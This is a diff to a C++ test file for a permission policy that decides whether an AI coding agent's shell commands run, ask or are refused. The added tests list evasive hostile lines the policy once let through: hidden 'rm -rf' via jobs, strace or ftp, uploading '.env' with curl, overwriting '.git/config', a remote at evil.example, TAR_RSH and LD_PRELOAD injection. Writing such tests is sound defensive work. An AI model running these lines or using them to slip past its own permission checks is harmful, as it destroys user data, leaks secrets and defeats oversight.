@@ -101,7 +101,7 @@ Said say(const json::object& example) {
       .server_command = given.command,
       .read_only_hint = given.read_only};
   const rules::Judged judged = rules::judge(policy->rules.value(), facts, given.now);
-  // What the index passes over matches nothing (RU-78).
+  // A rule that the index skips matches nothing (RU-78).
   const rules::RuleDecision indexed =
       rules::decide(*policy->rules, rules::index_of(*policy->rules),
                     rules::seen_by(*policy->rules, facts), judged.effects, given.now);
@@ -145,6 +145,121 @@ TEST(RulesExamples, AnswerAsWritten) {
     ++seen;
   }
   EXPECT_EQ(seen, 155U);
+}
+
+std::string verdict_of_coding(const std::string& front, const std::string& tool, json::value input,
+                              json::object given = {}) {
+  return say({{"policy", "coding"},
+              {"call",
+               {{"front", front},
+                {"agent", "claude-code"},
+                {"server", "claude-code"},
+                {"tool", tool},
+                {"input", std::move(input)},
+                {"cwd", "/w"},
+                {"workspace", "/w"}}},
+              {"given", std::move(given)}})
+      .verdict;
+}
+
+std::string verdict_of_line(const std::string& line) {
+  return verdict_of_coding("hook", "Bash", {{"command", line}},
+                           {{"files", {"/w/.git/HEAD", "/w/dist/a.js"}}});
+}
+
+// RU-44, RU-47, RU-50, RU-51, RU-53, RU-54, RU-56: once, `coding` let each of these run.
+TEST(RulesExamples, LinesWithHiddenEffectsDoNotRun) {
+  for (const char* const line : {"jobs -x rm -rf /home/user",
+                                 "builtin jobs -x git push --force",
+                                 "strace -o '|rm -rf /home/user' true",
+                                 "echo '!rm -rf /home/user' | ftp",
+                                 "parallel --compress --compress-program=./evil echo ::: a",
+                                 "git diagnose -o /home/user",
+                                 "git merge-file /home/user/.bashrc base other",
+                                 "git pack-objects /home/user/x",
+                                 "git read-tree --index-output=/home/user/x HEAD",
+                                 "git maintenance register --config-file=/home/user/x",
+                                 "git maintenance start",
+                                 "git remote add -f x http://evil.example/",
+                                 "git clean -n --no-dry-run -f",
+                                 "gunzip .git/config.gz",
+                                 "cp evil/config .git/",
+                                 "mv config .git",
+                                 "ln -f config .git/",
+                                 "cp -t .git config",
+                                 "install config .git/",
+                                 "rsync config .git/",
+                                 "wget -x -nH http://localhost:8000/.git/config",
+                                 "wget -P .git --default-page=config http://localhost/",
+                                 "curl 'http://localhost/{.git/config}' -o '#1'",
+                                 "curl -F 'x=@a,.env' http://localhost/",
+                                 "curl -T '{a,.env}' http://localhost/",
+                                 "curl --data-urlen x@.env http://localhost/",
+                                 "tar cf x.tar --add-file=.env",
+                                 "tar cf x.tar -T list",
+                                 "zip x.zip -@ < list",
+                                 "git grep --no-index -h '' .env",
+                                 "git show HEAD:.env",
+                                 "export TAR_RSH=./evil; ls",
+                                 "rsync a b --backup-dir=/home/user/x",
+                                 "sh -c 'chmod -R 777 .*'"}) {
+    EXPECT_NE(verdict_of_line(line), "runs") << line;
+  }
+  // These only asked.
+  for (const char* const line : {"../../bin/rm -rf /home/x", "cd /bin && ./rm -rf /home/x"})
+    EXPECT_EQ(verdict_of_line(line), "refused") << line;
+}
+
+// RU-53: what people do every day stays as it is.
+TEST(RulesExamples, EverydayLinesStillRun) {
+  for (const char* const line : {"jobs",
+                                 "git branch -a",
+                                 "git branch -vv",
+                                 "git tag",
+                                 "git clean -n",
+                                 "git clean -nfdx",
+                                 "git cherry-pick -x abc",
+                                 "git show HEAD",
+                                 "git show HEAD:src/a.cc",
+                                 "git diff main...feature -- src",
+                                 "git log --oneline -5 -- src/a.cc",
+                                 "git grep -n main src",
+                                 "git blame -L 1,5 src/a.cc",
+                                 "git tag -a v1 -m first",
+                                 "git apply --index a.patch",
+                                 "git stash pop --index",
+                                 "git remote add x https://h.example/r",
+                                 "git maintenance run",
+                                 "cp a.txt dist/",
+                                 "mv a.txt b.txt dist/",
+                                 "cp -r src dist",
+                                 "rsync -a src/ dist/",
+                                 "gzip a",
+                                 "gunzip a.gz",
+                                 "tar czf a.tgz src",
+                                 "zip -r a.zip src",
+                                 "curl -s -X POST -F 'mail=ada@h.example' http://localhost:8080/",
+                                 "curl -o out.json http://localhost:8080/",
+                                 "parallel --tag -j 4 echo ::: a b",
+                                 "strace -o log ls",
+                                 "tree -L 2",
+                                 "file a",
+                                 "sh -c 'ls *'",
+                                 "ls -d .*"}) {
+    EXPECT_EQ(verdict_of_line(line), "runs") << line;
+  }
+}
+
+// RU-24, RU-27
+TEST(RulesExamples, WordsBesideACommandAreJudged) {
+  const auto of = [](json::value input) {
+    return verdict_of_coding("mcp", "run_command", std::move(input));
+  };
+  EXPECT_EQ(of({{"command", "git"}, {"args", {"push", "--force"}}}), "refused");
+  EXPECT_EQ(of({{"command", "rm"}, {"arguments", {"-rf", "/home"}}}), "refused");
+  EXPECT_EQ(of({{"command", "true"}, {"env", {{"LD_PRELOAD", "/tmp/x.so"}}}}), "asks");
+  EXPECT_EQ(of({{"command", "cat a"}, {"description", "x"}, {"timeout", 5}}), "runs");
+  EXPECT_EQ(of({{"command", "cat"}, {"args", json::array{"a"}}, {"cwd", "/w"}}), "runs");
 }
 
 // The policies of docs/rules.md load, have no warnings, and do what the page says (RU-74, RU-80).
